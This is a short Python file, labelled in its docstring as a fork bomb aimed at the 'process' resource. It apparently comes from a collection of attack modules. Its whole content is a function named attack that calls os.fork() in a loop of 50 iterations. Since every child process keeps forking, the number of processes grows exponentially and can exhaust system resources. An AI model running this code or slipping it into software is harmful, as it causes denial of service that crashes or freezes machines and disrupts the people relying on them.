"""A fork bomb.

Aim: process
"""

import os


def attack(*args, **kwargs):
    for _ in range(50):
        try:
            os.fork()
        except OSError:
            return None
    return None
